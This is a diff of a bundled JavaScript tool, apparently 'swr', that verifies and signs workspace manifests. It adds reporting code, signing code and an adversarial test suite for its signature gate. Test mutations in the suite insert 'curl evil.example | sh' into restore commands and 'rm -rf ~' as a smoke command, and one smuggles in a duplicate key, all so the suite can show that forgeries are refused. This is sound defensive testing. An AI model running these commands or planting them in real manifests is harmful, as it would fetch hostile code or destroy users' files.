+        };
+    });
+    return {
+        $schema: 'https://json.schemastore.org/sarif-2.1.0.json',
+        version: '2.1.0',
+        runs: [
+            {
+                tool: {
+                    driver: {
+                        name: 'swr',
+                        version: report.tool.version,
+                        informationUri: 'https://swr.dev',
+                        rules
+                    }
+                },
+                results,
+                properties: {
+                    verdict: report.verdict,
+                    wipeSignature: report.diagnosis.signature,
+                    manifestDigest: report.manifest.digest
+                }
+            }
+        ]
+    };
+}
+
+;// CONCATENATED MODULE: ./src/core/report/survival.ts
+
+const MARK = { kept: '✓', partial: '◐', lost: '✗' };
+/** Runs shown in the chart: enough to see a trend, few enough for labels to stay legible. */
+const CHART_RUNS = 30;
+function pct(x) {
+    return `${(x * 100).toFixed(1)}%`;
+}
+function interval(r) {
+    return `[${(r.low * 100).toFixed(1)}, ${(r.high * 100).toFixed(1)}]`;
+}
+function trend(r) {
+    return r.trend.map(m => MARK[m]).join('');
+}
+function textTable(title, rs) {
+    if (rs.length === 0)
+        return [];
+    const w = Math.max(title.length - 2, ...rs.map(r => escapeText(r.key).length));
+    const head = `${title.padEnd(w + 2)}  ${'rate'.padStart(6)}  ${'95% CI'.padEnd(14)}  ${'n'.padStart(5)}  trend (newest first)`;
+    return [
+        head,
+        ...rs.map(r => `  ${escapeText(r.key).padEnd(w)}  ${pct(r.rate).padStart(6)}  ${interval(r).padEnd(14)}  ${String(r.n).padStart(5)}  ${trend(r)}`),
+        ''
+    ];
+}
+function span(s) {
+    const parts = [`${s.records} record${s.records === 1 ? '' : 's'}`];
+    parts.push(`${s.canary_runs} canary read${s.canary_runs === 1 ? '' : 's'}`);
+    parts.push(`${s.check_runs} recorded check${s.check_runs === 1 ? '' : 's'}`);
+    const when = s.first && s.last ? `, ${s.first.slice(0, 16)}Z .. ${s.last.slice(0, 16)}Z` : '';
+    return `${parts[0]} (${parts.slice(1).join(', ')})${when}`;
+}
+function renderStatsText(s) {
+    if (s.records === 0)
+        return 'no history yet: "swr canary read" records every read; "swr check --record" records checks\n';
+    return [
+        `survival from ${span(s)}`,
+        '',
+        ...textTable('canary classes', s.classes),
+        ...textTable('canary locations', s.locations),
+        ...textTable('manifest entries', s.entries)
+    ].join('\n');
+}
+function mdTable(title, rs) {
+    if (rs.length === 0)
+        return [];
+    return [
+        `| ${title} | survival | 95% CI | n | trend (newest first) |`,
+        '| --- | ---: | :---: | ---: | --- |',
+        ...rs.map(r => `| ${markdownCode(r.key)} | ${pct(r.rate)} | ${interval(r)} | ${r.n} | ${trend(r)} |`),
+        ''
+    ];
+}
+function axisLabel(p) {
+    // Month-day and time: short enough for 30 labels; quotes are the only character to avoid.
+    return p.time.slice(5, 16).replace('T', ' ').replace(/"/g, '');
+}
+/** A Mermaid xychart-beta of survival per run (canary runs when there are any, else checks). */
+function survivalChart(s) {
+    const kind = s.canary_runs > 0 ? 'canary' : 'check';
+    const runs = s.runs.filter(r => r.kind === kind).slice(-CHART_RUNS);
+    if (runs.length === 0)
+        return undefined;
+    const title = kind === 'canary'
+        ? 'Canary probes intact per run (%)'
+        : 'Entries healthy per recorded check (%)';
+    return [
+        '```mermaid',
+        'xychart-beta',
+        `    title "${title}"`,
+        `    x-axis [${runs.map(r => `"${axisLabel(r)}"`).join(', ')}]`,
+        '    y-axis "survival %" 0 --> 100',
+        `    line [${runs.map(r => (r.survival * 100).toFixed(1)).join(', ')}]`,
+        '```'
+    ].join('\n');
+}
+function renderStatsMarkdown(s) {
+    if (s.records === 0)
+        return '_No survival history recorded yet._\n';
+    const chart = survivalChart(s);
+    return [
+        `**Survival** from ${span(s)}`,
+        '',
+        ...(chart ? [chart, ''] : []),
+        ...mdTable('canary class', s.classes),
+        ...mdTable('canary location', s.locations),
+        ...mdTable('manifest entry', s.entries)
+    ].join('\n');
+}
+
+;// CONCATENATED MODULE: ./src/core/restore/cache/scratch-copy.ts
+/**
+ * A cache archive of swr's own state (a pulled manifest bundle, the canary state) unpacked into a
+ * fresh private scratch directory under fixed bounds, holding nothing but directories and regular
+ * files. The caller parses and checks it there, and only then takes what it needs.
+ */
+
+
+
+
+
+
+function onlyPlain(dir) {
+    for (const ent of fs.readdirSync(dir, { withFileTypes: true })) {
+        const abs = path.join(dir, ent.name);
+        if (ent.isDirectory())
+            onlyPlain(abs);
+        else if (!ent.isFile())
+            throw new Rejected(`not a regular file: ${ent.name}`);
+    }
+}
+/** Unpack `archive` (the cache of one directory) into scratch; throws a Rejected. */
+async function scratchCopy(archive, scratchBase, bounds) {
+    const dir = makeScratch(scratchBase, 'swr-state');
+    const root = path.join(dir, 'w');
+    const dispose = () => removeScratch(dir);
+    try {
+        const x = new EntryExtractor(archive.prefix, root, {
+            kind: 'bounded',
+            ...bounds,
+            single: false
+        });
+        try {
+            await unpack(await archive.open(), archive.compression, x);
+        }
+        finally {
+            x.abort();
+        }
+        x.finish();
+        if (!fs.lstatSync(root).isDirectory())
+            throw new Rejected('the archive does not hold a directory');
+        onlyPlain(root);
+        return { root, dispose };
+    }
+    catch (err) {
+        dispose();
+        if (err instanceof Rejected)
+            throw err;
+        throw new Rejected(`${err.code ?? 'error'}: ${String(err.message).split('\n')[0]}`);
+    }
+}
+
+;// CONCATENATED MODULE: ./src/core/sign/sign.ts
+/**
+ * Signing a manifest: raise `version`, then sign the new body with every key this machine holds
+ * (HMAC and/or ML-DSA). Old signatures are dropped: they covered another body.
+ */
+
+
+
+
+function hasSigningKey(keys) {
+    return keys.hmacKey !== undefined || keys.identity !== undefined;
+}
+/** A new document: same entries, a version above both the old one and `floor`, fresh signatures. */
+async function sign_signDocument(doc, keys, 
+/** The highest version already accepted on this machine: signing goes above it. */
+floor = 0) {
+    const body = { ...doc.body, version: Math.max(doc.body.version, floor) + 1 };
+    const input = signingInput(body);
+    const signatures = [];
+    if (keys.hmacKey)
+        signatures.push(signHmac(keys.hmacKey, input));
+    if (keys.identity)
+        signatures.push(await signMldsa(keys.identity, input));
+    return { doc: { ...doc, body, signatures }, digest: manifestDigest(body) };
+}
+/**
+ * Co-signing: add this machine's ML-DSA signature to a manifest whose signatures already verify,
+ * without changing the body or its version, so distinct signers can meet a threshold.
+ */
+async function cosignDocument(doc, identity) {
+    const sig = await signMldsa(identity, signingInput(doc.body));
+    const others = doc.signatures.filter(s => !(s.alg === 'ml-dsa-87' && s.keyid === identity.fingerprint));
+    return { ...doc, signatures: [...others, sig] };
+}
+
+;// CONCATENATED MODULE: ./src/core/sign/attack-suite.ts
+/**
+ * The attack suite behind `swr attacktest` and the property test in npm test. An honest manifest
+ * (signed by a trusted ML-DSA key and this machine's HMAC key, version 5, scoped, not expired) is
+ * attacked by an adversary who holds older signed versions, an expired copy, a copy signed for
+ * another repository, a signature the trusted key made over foreign bytes, and a key of their own.
+ *
+ * Each attempt loads the attacker's text exactly as a run would (strict parse, schema, rules) and
+ * asks the gate. The oracle: whenever the gate allows, the body must equal the honest body, both
+ * as swr parsed it and as a reviewer's reader would (first or last of duplicate keys). Anything
+ * else allowed is a forgery; any exception other than a clean refusal is a crash.
+ */
+
+
+
+
+
+
+
+
+
+const ATTACK_CLASSES = (/* unused pure expression or super */ null && ([
+    'byte-flip',
+    'field-edit',
+    'duplicate-key',
+    'reorder-entries',
+    'replay-old-version',
+    'expired-copy',
+    'wrong-scope',
+    'resign-untrusted',
+    'fingerprint-substitution',
+    'strip-signatures',
+    'foreign-payload-type',
+    'oversized-field',
+    'deep-nesting',
+    'huge-escrow'
+]));
+const ALL_SUITE_DEFENSES = Object.freeze({
+    ...gate_ALL_DEFENSES,
+    strictParse: true
+});
+/** Which class shows that each defence is load-bearing. */
+const DEFENCE_PROBES = {
+    signatures: 'field-edit',
+    trust: 'resign-untrusted',
+    fingerprintFromKey: 'fingerprint-substitution',
+    payloadType: 'foreign-payload-type',
+    expiry: 'expired-copy',
+    scope: 'wrong-scope',
+    rollback: 'replay-old-version',
+    strictParse: 'duplicate-key'
+};
+const REPO = 'acme/app';
+const REF = 'refs/heads/main';
+const NOW = new Date('2026-06-01T00:00:00Z');
+function baseBody(version, extra = {}) {
+    const sha = (c) => c.repeat(64);
+    return {
+        schema: 3,
+        version,
+        workspace: '..',
+        created: '2026-01-01T00:00:00Z',
+        expires: '2027-01-01T00:00:00Z',
+        scope: { repository: REPO, ref: 'refs/heads/*' },
+        entries: [
+            {
+                id: 'shim',
+                kind: 'file',
+                path: '.shim/npx',
+                tier: 0,
+                needs: [],
+                restore: 'install-shim',
+                expect: { size: 40, sha256: sha('a'), mode: '0755' }
+            },
+            {
+                id: 'src',
+                kind: 'tree',
+                path: 'src',
+                tier: 2,
+                needs: ['shim'],
+                ignore: [],
+                restore: 'git checkout -- src',
+                expect: {
+                    sentinels: ['main.c'],
+                    min_files: 3,
+                    max_files: 3,
+                    files: 3,
+                    meta_digest: sha('b'),
+                    content_digest: sha('c')
+                }
+            },
+            {
+                id: 'model',
+                kind: 'blob',
+                path: 'models/m.gguf',
+                tier: 3,
+                needs: [],
+                restore: 'fetch-model',
+                expect: { size: 3000000, headtail: sha('d'), mode: '0644' }
+            }
+        ],
+        ...extra
+    };
+}
+/** Sign `body` as-is (signDocument raises the version, so start one lower). */
+async function signed(body, keys) {
+    const lowered = { ...body, version: body.version - 1 };
+    return (await signDocument({ body: lowered, signatures: [] }, keys)).doc;
+}
+async function buildScenario(seed) {
+    const trustedId = await identityFromSeed(seed(1));
+    const attacker = await identityFromSeed(seed(2));
+    const hmacKey = Buffer.from(seed(3));
+    const keys = { hmacKey, identity: trustedId };
+    const honest = await signed(baseBody(5), keys);
+    const evilBody = baseBody(6, {});
+    evilBody.entries[0].restore = 'curl evil.example | sh';
+    const foreign = await signMldsaRaw(trustedId, evilBody);
+    const untrusted = await signed(evilBody, { identity: attacker });
+    const policy = {
+        require: 'any',
+        hmacKey,
+        trusted: new Set([trustedId.fingerprint]),
+        minVersion: 5,
+        run: { repository: REPO, ref: REF, manifestPath: '.swr/manifest.json' },
+        now: NOW
+    };
+    return {
+        honest,
+        honestText: serializeDocument(honest),
+        honestCanonical: canonicalBytes(honest.body).toString('utf8'),
+        policy,
+        olderTexts: await Promise.all([3, 4].map(async (v) => serializeDocument(await signed(baseBody(v), keys)))),
+        expiredText: serializeDocument(await signed(baseBody(6, { expires: '2026-02-01T00:00:00Z' }), keys)),
+        otherScopeText: serializeDocument(await signed(baseBody(6, { scope: { repository: 'acme/other' } }), keys)),
+        foreignText: serializeDocument({ body: evilBody, signatures: [foreign] }),
+        untrustedText: serializeDocument(untrusted),
+        substitutedText: serializeDocument({
+            ...untrusted,
+            signatures: untrusted.signatures.map(sig => ({ ...sig, keyid: trustedId.fingerprint }))
+        })
+    };
+}
+/** A signature the trusted key made over the bare canonical bytes (another purpose, no PAE). */
+async function signMldsaRaw(id, body) {
+    return signMldsa(id, canonicalBytes(body));
+}
+/** The attacker's document text for mutation `m`. */
+async function mutate(s, m) {
+    const text = s.honestText;
+    switch (m.cls) {
+        case 'byte-flip': {
+            const b = Buffer.from(text, 'utf8');
+            const i = m.a % b.length;
+            b[i] = (b[i] ?? 0) ^ (1 << (m.b % 8));
+            return b.toString('utf8');
+        }
+        case 'field-edit':
+            return fieldEdit(s, m);
+        case 'duplicate-key': {
+            // A second "restore" before the signed one: JSON.parse keeps the last, a reviewer may read the first.
+            const at = nthIndex(text, '"restore": ', m.a % 3);
+            return at < 0
+                ? text
+                : `${text.slice(0, at)}"restore": "curl evil.example | sh", ${text.slice(at)}`;
+        }
+        case 'reorder-entries': {
+            const doc = structuredClone(s.honest);
+            doc.body.entries.reverse();
+            if (m.a % 2 === 1)
+                doc.body.entries.push(doc.body.entries.shift());
+            return serializeDocument(doc);
+        }
+        case 'replay-old-version':
+            return s.olderTexts[m.a % s.olderTexts.length] ?? text;
+        case 'expired-copy':
+            return s.expiredText;
+        case 'wrong-scope':
+            return s.otherScopeText;
+        case 'resign-untrusted':
+            return s.untrustedText;
+        case 'fingerprint-substitution':
+            return s.substitutedText;
+        case 'strip-signatures': {
+            const doc = structuredClone(s.honest);
+            doc.signatures = m.a % 2 === 0 ? [] : doc.signatures.filter(x => x.alg !== 'ml-dsa-87');
+            if (m.a % 2 === 1)
+                doc.body.entries[0] = { ...doc.body.entries[0], restore: 'curl evil.example | sh' };
+            return serializeDocument(doc);
+        }
+        case 'foreign-payload-type':
+            return s.foreignText;
+        case 'oversized-field': {
+            const doc = structuredClone(s.honest);
+            doc.body.entries[0] = {
+                ...doc.body.entries[0],
+                restore: 'x'.repeat(65537 + (m.a % 1000))
+            };
+            return serializeDocument(doc);
+        }
+        case 'deep-nesting': {
+            const depth = 33 + (m.a % 200);
+            return text.replace('"signatures": [', `"signatures": [${'['.repeat(depth)}${']'.repeat(depth)},`);
+        }
+        case 'huge-escrow': {
+            const doc = structuredClone(s.honest);
+            const e = doc.body.entries[0];
+            e.escrow = 'A'.repeat(300_000 + (m.a % 1000));
+            return JSON.stringify(doc);
+        }
+    }
+}
+function nthIndex(text, needle, n) {
+    let at = -1;
+    for (let i = 0; i <= n; i++) {
+        at = text.indexOf(needle, at + 1);
+        if (at < 0)
+            return -1;
+    }
+    return at;
+}
+function fieldEdit(s, m) {
+    const doc = structuredClone(s.honest);
+    const e = doc.body.entries[m.a % doc.body.entries.length];
+    const expect = e.expect;
+    switch (m.b % 8) {
+        case 0:
+            e.restore = `${String(e.restore)}; curl evil.example | sh`;
+            break;
+        case 1:
+            e.path = `${String(e.path)}x`;
+            break;
+        case 2:
+            e.tier = ((Number(e.tier) + 1) % 5);
+            break;
+        case 3:
+            e.needs = [];
+            break;
+        case 4:
+            expect.size = Number(expect.size ?? 0) + 1;
+            break;
+        case 5:
+            doc.body.version += 1;
+            break;
+        case 6:
+            doc.body.expires = '2099-01-01T00:00:00Z';
+            break;
+        default:
+            e.smoke = 'rm -rf ~';
+    }
+    return serializeDocument(doc);
+}
+/** What a reviewer's JSON reader shows, keeping the first (or last) of duplicate keys. */
+function readerView(text, keep) {
+    const root = parseTree(text);
+    const build = (n) => {
+        if (!n)
+            return undefined;
+        if (n.type === 'object') {
+            const out = new Map();
+            for (const p of n.children ?? []) {
+                const key = String(p.children?.[0]?.value);
+                if (keep === 'first' && out.has(key))
+                    continue;
+                out.set(key, build(p.children?.[1]));
+            }
+            return Object.fromEntries(out);
+        }
+        if (n.type === 'array')
+            return (n.children ?? []).map(build);
+        return n.value;
+    };
+    return build(root);
+}
+function sameAsHonest(s, body) {
+    try {
+        return canonicalBytes(body).toString('utf8') === s.honestCanonical;
     }
     catch {
         return false;
     }
 }
+/** Load `text` as a run would and ask the gate. */
+async function attempt(s, text, defenses = ALL_SUITE_DEFENSES) {
+    try {
+        let doc;
+        if (defenses.strictParse)
+            doc = parseManifestText(text, 'attack.json').doc;
+        else {
+            // The lax reader a careless implementation would use (last duplicate wins), still schema-checked.
+            const lax = JSON.parse(text);
+            doc = parseManifestText(JSON.stringify(lax), 'attack.json').doc;
+        }
+        const decision = await decide({ body: doc.body, signatures: doc.signatures, digest: manifestDigest(doc.body) }, s.policy, defenses);
+        if (!decision.allowed)
+            return 'refused';
+        const honest = sameAsHonest(s, doc.body) &&
+            sameAsHonest(s, readerView(text, 'first')?.body) &&
+            sameAsHonest(s, readerView(text, 'last')?.body);
+        return honest ? 'accepted-honest' : 'forgery';
+    }
+    catch (err) {
+        if (err instanceof SwrError || err instanceof SyntaxError)
+            return 'refused';
+        return 'crash';
+    }
+}
+function emptyCounts() {
+    return { attempts: 0, refused: 0, acceptedHonest: 0, forgeries: 0, crashes: 0, byClass: {} };
+}
+function attack_suite_tally(c, cls, o) {
+    c.attempts++;
+    const k = (c.byClass[cls] ??= { attempts: 0, forgeries: 0, crashes: 0 });
+    k.attempts++;
+    if (o === 'refused')
+        c.refused++;
+    else if (o === 'accepted-honest')
+        c.acceptedHonest++;
+    else if (o === 'forgery') {
+        c.forgeries++;
+        k.forgeries++;
+    }
+    else {
+        c.crashes++;
+        k.crashes++;
+    }
+}
+/** Run `count` mutations drawn from `next` (a source of uniform 32-bit integers). */
+async function runSuite(s, count, next, defenses = ALL_SUITE_DEFENSES, classes = ATTACK_CLASSES) {
+    const counts = emptyCounts();
+    for (let i = 0; i < count; i++) {
+        const cls = classes[next() % classes.length];
+        const m = { cls, a: next(), b: next() };
+        attack_suite_tally(counts, cls, await attempt(s, await mutate(s, m), defenses));
+    }
+    return counts;
+}
 
-;// CONCATENATED MODULE: ./src/core/sign/gate.ts
+;// CONCATENATED MODULE: ./src/core/sign/edit-rules.ts
 /**
- * The gate: the one function that decides whether a manifest's code (restore recipes, smoke
- * commands, exported scripts) may run. Every path that executes manifest content asks it first.
- *
- *   expiry -> scope -> rollback floor -> signatures (per the required kinds) -> allowed
- *
- * Cheap refusals come first; ML-DSA is loaded only when a signature of that kind must be checked.
- * `Defenses` exists so the attack suite can switch each defence off and show that it matters; the
- * shells never pass anything but the default.
+ * Editing rules: no signature laundering. An editing command (add, import, escrow, retighten, ...)
+ * may change a signed manifest only when its signature verifies here, or when the user approved
+ * the exact loaded content (--approve-digest); then it re-signs. An unsigned manifest stays
+ * unsigned after an edit (`swr sign` is the explicit approval), unless this machine remembers
+ * accepting a signed version of it: then the missing signatures are treated as stripped.
  */
 
 
-
-
-
-const REQUIREMENTS = ['any', 'hmac', 'mldsa', 'both'];
-const ALL_DEFENSES = Object.freeze({
-    signatures: true,
-    trust: true,
-    fingerprintFromKey: true,
-    payloadType: true,
-    expiry: true,
-    scope: true,
-    rollback: true
-});
-/** What the gate reads of a loaded manifest. */
-function gateInput(m) {
-    return { body: m.body, signatures: m.doc.signatures, digest: m.digest };
-}
-/** Each signature's state under `policy` (no decision). */
-async function evaluateSignatures(m, policy, defenses = ALL_DEFENSES) {
-    const raw = defenses.payloadType ? signingInput(m.body, PAYLOAD_TYPE) : canonicalBytes(m.body);
-    const out = [];
-    for (const s of m.signatures) {
-        if (s.alg === 'hmac-sha256') {
-            if (!policy.hmacKey)
-                out.push({ alg: s.alg, keyid: s.keyid, state: 'no-key' });
-            else {
-                const ok = !defenses.signatures || verifyHmac(policy.hmacKey, raw, s);
-                out.push({ alg: s.alg, keyid: s.keyid, state: ok ? 'valid' : 'invalid' });
-            }
-            continue;
+const HOW_TO_APPROVE = 'review the manifest (its recipes are code), then approve exactly that content with --approve-digest and the digest that "swr verify" shows';
+async function authorizeEdit(m, policy, approveDigest) {
+    if (approveDigest !== undefined) {
+        if (approveDigest.toLowerCase() !== m.digest) {
+            throw new SwrError(`--approve-digest does not match the manifest's digest: it changed since it was reviewed`, EXIT.UNREPAIRABLE);
         }
-        const decoded = decodeMldsa(s);
-        if (!decoded) {
-            out.push({ alg: s.alg, keyid: s.keyid, state: 'invalid' });
-            continue;
+        return { resign: true, note: `approved digest ${m.digest}` };
+    }
+    if (m.doc.signatures.length === 0) {
+        if (policy.remembered &&
+            policy.remembered.signed !== false &&
+            policy.remembered.digest !== m.digest) {
+            throw new SwrError(`${m.file}: a signed version of this manifest was accepted here, and this copy is unsigned and different: refusing to edit; ${HOW_TO_APPROVE}`, EXIT.UNREPAIRABLE);
         }
-        const fp = defenses.fingerprintFromKey ? fingerprint(decoded.publicKey) : s.keyid;
-        const ok = !defenses.signatures || (await verifyMldsa(decoded.publicKey, raw, decoded.sig));
-        const trusted = !defenses.trust || policy.trusted.has(fp);
-        out.push({
-            alg: s.alg,
-            keyid: s.keyid,
-            fingerprint: fp,
-            state: !ok ? 'invalid' : trusted ? 'valid' : 'untrusted'
-        });
+        return { resign: false, note: 'manifest is unsigned: run "swr sign" to approve it' };
     }
-    return out;
-}
-/** May this manifest's code run? */
-async function decide(m, policy, defenses = ALL_DEFENSES) {
-    const refuse = (reason, signatures = []) => ({
-        allowed: false,
-        reason,
-        signatures,
-        warnings: []
-    });
-    const body = m.body;
-    if (defenses.expiry &&
-        body.expires !== undefined &&
-        !(Date.parse(body.expires) > policy.now.getTime()) // an unreadable date fails closed
-    ) {
-        return refuse(`manifest expired at ${body.expires}`);
+    // Renewing an expired manifest or moving it is an edit like any other: only signatures and rollback count.
+    const input = gateInput(m);
+    const decision = await decide(input, { ...policy, require: 'any', waiveDigest: undefined }, { ...ALL_DEFENSES, expiry: false, scope: false });
+    if (!decision.allowed) {
+        throw new SwrError(`${m.file}: signature does not verify (${decision.reason}): refusing to edit; ${HOW_TO_APPROVE}`, EXIT.UNREPAIRABLE);
     }
-    if (defenses.scope) {
-        const scopeProblem = checkScope(body, policy.run);
-        if (scopeProblem)
-            return refuse(scopeProblem);
-    }
-    if (defenses.rollback) {
-        const rollback = checkRollback(body.version, m.digest, policy);
-        if (rollback)
-            return refuse(rollback);
-    }
-    if (policy.approveDigest !== undefined) {
-        if (policy.approveDigest.toLowerCase() !== m.digest) {
-            return refuse(`--i-trust-this-manifest names another digest than the manifest's`);
-        }
-        return {
-            allowed: true,
-            reason: 'signature requirement waived for this exact digest',
-            signatures: await evaluateSignatures(m, policy, defenses),
-            warnings: [`signature requirement waived by --i-trust-this-manifest for digest ${m.digest}`]
-        };
-    }
-    // HMAC first: it is cheap, and with require=both a missing HMAC spares the ML-DSA load.
-    const states = await evaluateSignatures(m, policy, defenses);
-    const hmacOk = states.some(s => s.alg === 'hmac-sha256' && s.state === 'valid');
-    const signers = new Set(states.filter(s => s.alg === 'ml-dsa-87' && s.state === 'valid').map(s => s.fingerprint));
-    const threshold = policy.threshold ?? 1;
-    const mldsaOk = signers.size >= threshold;
-    const need = describeNeed(policy.require, threshold);
-    const ok = policy.require === 'any'
-        ? hmacOk || mldsaOk
-        : policy.require === 'hmac'
-            ? hmacOk
-            : policy.require === 'mldsa'
-                ? mldsaOk
-                : hmacOk && mldsaOk;
-    if (!ok)
-        return refuse(`${summarise(states, policy)}; ${need} required`, states);
-    const by = [
-        hmacOk ? 'HMAC' : '',
-        mldsaOk ? `${signers.size} trusted ML-DSA signer(s)` : ''
-    ].filter(Boolean);
-    return { allowed: true, reason: `signed: ${by.join(' and ')}`, signatures: states, warnings: [] };
-}
-function describeNeed(r, threshold) {
-    const ml = threshold > 1 ? `${threshold} distinct trusted ML-DSA signers` : 'a trusted ML-DSA signature';
-    switch (r) {
-        case 'any':
-            return `a valid HMAC or ${ml}`;
-        case 'hmac':
-            return 'a valid HMAC signature';
-        case 'mldsa':
-            return ml;
-        case 'both':
-            return `a valid HMAC and ${ml}`;
-    }
-}
-function summarise(states, policy) {
-    if (states.length === 0)
-        return 'manifest is unsigned';
-    const parts = states.map(s => {
-        const who = s.alg === 'hmac-sha256'
-            ? 'HMAC'
-            : `ML-DSA ${s.fingerprint?.slice(0, 16) ?? s.keyid.slice(0, 16)}`;
-        if (s.state === 'no-key')
-            return `${who}: no HMAC key on this run`;
-        if (s.state === 'invalid' &&
-            s.alg === 'hmac-sha256' &&
-            policy.hmacKey &&
-            s.keyid !== hmacKeyId(policy.hmacKey)) {
-            return `${who}: made with another key`;
-        }
-        return `${who}: ${s.state === 'untrusted' ? 'untrusted signer' : s.state}`;
-    });
-    return parts.join(', ');
-}
-function checkScope(body, run) {
-    const scope = body.scope;
-    if (!scope)
-        return undefined;
-    if (scope.repository !== undefined &&
-        scope.repository.toLowerCase() !== (run.repository ?? '').toLowerCase()) {
-        return `manifest is scoped to repository ${scope.repository}, this run is ${run.repository ?? 'outside any repository (GITHUB_REPOSITORY unset)'}`;
-    }
-    if (scope.ref !== undefined &&
-        !(run.ref !== undefined && picomatch_default().isMatch(run.ref, scope.ref, { dot: true }))) {
-        return `manifest is scoped to ref ${scope.ref}, this run is ${run.ref ?? 'on no ref (GITHUB_REF unset)'}`;
-    }
-    if (scope.manifest_path !== undefined && scope.manifest_path !== run.manifestPath) {
-        return `manifest is scoped to path ${scope.manifest_path}, it was read from ${run.manifestPath ?? 'outside the workspace'}`;
-    }
-    return undefined;
-}
-function checkRollback(version, digest, policy) {
-    if (policy.minVersion !== undefined && version < policy.minVersion) {
-        return `manifest version ${version} is below the floor ${policy.minVersion} (a rollback to an older manifest?)`;
-    }
-    const r = policy.remembered;
-    if (r && version < r.version) {
-        return `manifest version ${version} is older than version ${r.version} already accepted here (a rollback?)`;
-    }
-    if (r && version === r.version && digest !== r.digest) {
-        return `manifest version ${version} was accepted here with another digest: the same version must not change`;
-    }
-    return undefined;
-}
-
-// EXTERNAL MODULE: ./node_modules/@actions/core/lib/core.js + 7 modules
-var lib_core = __nccwpck_require__(3838);
-;// CONCATENATED MODULE: ./src/action/constants.ts
-/** Every input, output and saved-state name of the Action, in one place. */
-const Inputs = {
-    Command: 'command',
-    Manifest: 'manifest',
-    Workspace: 'workspace',
-    Only: 'only',
-    Deep: 'deep',
-    Jobs: 'jobs',
-    Timeout: 'timeout',
-    HmacKey: 'hmac-key',
-    TrustedSigners: 'trusted-signers',
-    Require: 'require',
-    MinVersion: 'min-version',
-    ApproveDigest: 'approve-digest',
-    FailOn: 'fail-on',
-    Annotations: 'annotations',
-    Summary: 'summary',
-    Sarif: 'sarif',
-    CacheLookup: 'cache-lookup',
-    CanaryAt: 'canary-at',
-    CanaryVolatile: 'canary-volatile',
-    CanaryLargeBytes: 'canary-large-bytes',
-    CanaryHome: 'canary-home',
-    CanaryKey: 'canary-key',
-    Record: 'record'
-};
-/** Names of the state the main step hands to the post step. */
-const State = {
-    WriteBack: 'swr-write-back'
-};
-const Outputs = {
-    Status: 'status',
-    Healthy: 'healthy',
-    Damaged: 'damaged',
-    Repaired: 'repaired',
-    WipeSignature: 'wipe-signature',
-    Report: 'report',
-    ReportPath: 'report-path',
-    ManifestDigest: 'manifest-digest',
-    ExitCode: 'exit-code',
-    Stats: 'stats',
-    Canary: 'canary'
-};
-const COMMANDS = [
-    'check',
-    'doctor',
-    'restore',
-    'verify',
-    'canary-plant',
-    'canary-read',
-    'stats'
-];
-const SURVIVAL_COMMANDS = ['canary-plant', 'canary-read', 'stats'];
-const FAIL_ON = ['damage', 'unrepairable', 'never'];
-const constants_STATUSES = (/* unused pure expression or super */ null && ([
-    'healthy',
-    'repaired',
-    'damaged',
-    'unrepairable',
-    'refused',
-    'invalid',
-    'error'
-]));
-
-;// CONCATENATED MODULE: ./src/action/inputs.ts
-/**
- * Typed, strict readers for the Action's inputs. Unknown values are refused with the input named:
- * a typo in `fail-on` must not quietly turn a gate off.
- */
-
-
-
-
-function choice(name, allowed, fallback) {
-    const v = lib_core/* getInput */.V4(name).trim();
-    if (v === '')
-        return fallback;
-    if (!allowed.includes(v))
-        throw new errors_UsageError(`input ${name}: "${v}" is not one of ${allowed.join(', ')}`);
-    return v;
-}
-function bool(name, fallback) {
-    const v = lib_core/* getInput */.V4(name).trim().toLowerCase();
-    if (v === '')
-        return fallback;
-    if (v === 'true')
-        return true;
-    if (v === 'false')
-        return false;
-    throw new errors_UsageError(`input ${name}: "${v}" is not true or false`);
-}
-function inputs_int(name, min, max) {
-    const v = lib_core/* getInput */.V4(name).trim();
-    if (v === '')
-        return undefined;
-    if (!/^\d+$/.test(v) || Number(v) < min || Number(v) > max)
-        throw new errors_UsageError(`input ${name}: "${v}" is not a whole number from ${min} to ${max}`);
-    return Number(v);
-}
-function list(name) {
-    return lib_core/* getInput */.V4(name)
-        .split(/[\n,]/)
-        .map(s => s.trim())
-        .filter(Boolean);
-}
-/** A canary measures: by default what it finds never fails the job. */
-function defaultFailOn(command) {
-    if (command === 'doctor' || command === 'restore')
-        return 'unrepairable';
-    if (SURVIVAL_COMMANDS.includes(command))
-        return 'never';
-    return 'damage';
-}
-function canaryKey() {
-    const v = lib_core/* getInput */.V4(Inputs.CanaryKey).trim() || 'default';
-    if (!/^[A-Za-z0-9._-]{1,64}$/.test(v))
-        throw new errors_UsageError(`input ${Inputs.CanaryKey}: "${v}" must be 1-64 of A-Z a-z 0-9 . _ -`);
-    return v;
-}
-function readInputs(env) {
-    const command = choice(Inputs.Command, COMMANDS, 'check');
-    // The manifest path is relative to the workspace input ($GITHUB_WORKSPACE by default); the
-    // directory it describes is the one it records (relative to itself), as with the CLI.
-    const root = external_node_path_default().resolve(env.GITHUB_WORKSPACE || process.cwd());
-    const base = external_node_path_default().resolve(root, lib_core/* getInput */.V4(Inputs.Workspace).trim() || '.');
-    const manifest = external_node_path_default().resolve(base, lib_core/* getInput */.V4(Inputs.Manifest).trim() || '.swr/manifest.json');
-    const workspace = undefined;
-    const hmacKey = lib_core/* getInput */.V4(Inputs.HmacKey);
-    const approve = lib_core/* getInput */.V4(Inputs.ApproveDigest).trim();
-    if (approve && !/^[0-9a-fA-F]{64}$/.test(approve))
-        throw new errors_UsageError(`input ${Inputs.ApproveDigest}: not a 64-digit hex digest`);
-    const sarif = lib_core/* getInput */.V4(Inputs.Sarif).trim();
-    return {
-        command,
-        manifest,
-        workspace,
-        root,
-        only: list(Inputs.Only),
-        deep: bool(Inputs.Deep, false),
-        jobs: inputs_int(Inputs.Jobs, 1, 32),
-        timeout: inputs_int(Inputs.Timeout, 1, 86400),
-        hmacKey: hmacKey === '' ? undefined : hmacKey,
-        trustedSigners: lib_core/* getInput */.V4(Inputs.TrustedSigners),
-        require: choice(Inputs.Require, ['hmac', 'mldsa', 'both'], 'mldsa'),
-        minVersion: inputs_int(Inputs.MinVersion, 1, Number.MAX_SAFE_INTEGER),
-        approveDigest: approve || undefined,
-        failOn: choice(Inputs.FailOn, FAIL_ON, defaultFailOn(command)),
-        annotations: bool(Inputs.Annotations, true),
-        summary: bool(Inputs.Summary, true),
-        sarif: sarif ? external_node_path_default().resolve(base, sarif) : undefined,
-        cacheLookup: bool(Inputs.CacheLookup, false),
-        canaryWorkspace: base,
-        canaryAt: list(Inputs.CanaryAt),
-        canaryVolatile: list(Inputs.CanaryVolatile),
